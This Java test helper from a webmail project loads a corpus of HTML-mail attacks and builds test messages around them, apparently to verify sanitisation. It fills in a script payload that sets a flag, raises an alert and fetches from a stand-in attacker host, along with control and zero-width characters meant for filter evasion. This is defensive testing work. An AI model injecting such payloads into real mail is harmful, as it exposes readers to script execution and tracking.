package org.kantor.webmail.content;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** The corpus of attacks on readers of HTML mail, {@code attacks.txt}. */
public final class Attacks {

    private static final Pattern MANY = Pattern.compile("\\{many:([0-9]+):(.*?)\\}(?=[^}]|$)");

    private static final String PIXEL =
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";

    public record Attack(String name, String html) {

        /** The attack in a message, with a picture of its own beside it. */
        public byte[] message() {
            var body = Base64.getMimeEncoder().encodeToString(html.getBytes(StandardCharsets.UTF_8));
            return String.join(
                            "\r\n",
                            "From: mallory@outside.example",
                            "Subject: attack",
                            "MIME-Version: 1.0",
                            "Content-Type: multipart/related; boundary=b",
                            "",
                            "--b",
                            "Content-Type: text/html; charset=utf-8",
                            "Content-Transfer-Encoding: base64",
                            "",
                            body,
                            "--b",
                            "Content-Type: image/png; name=a.png",
                            "Content-ID: <a>",
                            "Content-Transfer-Encoding: base64",
                            "",
                            PIXEL,
                            "--b--",
                            "")
                    .getBytes(StandardCharsets.ISO_8859_1);
        }

        /** The same in another message. */
        byte[] inside() {
            var head =
                    "From: alice@example.org\r\nSubject: Fwd\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=outer\r\n\r\n"
                            + "--outer\r\n\r\nSee below.\r\n--outer\r\nContent-Type: message/rfc822\r\n\r\n";
            return (head + new String(message(), StandardCharsets.ISO_8859_1) + "\r\n--outer--\r\n")
                    .getBytes(StandardCharsets.ISO_8859_1);
        }

        @Override
        public String toString() {
            return name;
        }
    }

    /** The attacker's server: a name that leads nowhere, every request is answered before it leaves the browser. */
    private static final String OUTSIDE = "http://outside.example:81";

    private Attacks() {}

    public static List<Attack> all() {
        try (var in = Attacks.class.getResourceAsStream("attacks.txt")) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8)
                    .lines()
                    .filter(line -> !line.isBlank() && !line.startsWith("#"))
                    .map(line -> new Attack(
                            line.substring(0, line.indexOf(':')), filled(line.substring(line.indexOf(':') + 2))))
                    .toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static Attack called(String name) {
        return all().stream()
                .filter(attack -> attack.name().equals(name))
                .findFirst()
                .orElseThrow();
    }

    private static String filled(String template) {
        var many = MANY.matcher(template);
        var html = many.replaceAll(m -> Matcher.quoteReplacement(m.group(2).repeat(Integer.parseInt(m.group(1)))));
        return html.replace("{js}", "top.pwned=1;alert(1);fetch(`" + OUTSIDE + "/js`)")
                .replace("{out}", OUTSIDE)
                .replace("{host}", URI.create(OUTSIDE).getAuthority())
                .replace("{nul}", "\0")
                .replace("{tab}", "\t")
                .replace("{lf}", "\n")
                .replace("{cr}", "\r")
                .replace("{ff}", "\f")
                .replace("{nbsp}", "\u00a0")
                .replace("{zwsp}", "\u200b")
                .replace("{bom}", "\ufeff")
                .replace("{ls}", "\u2028");
    }
}
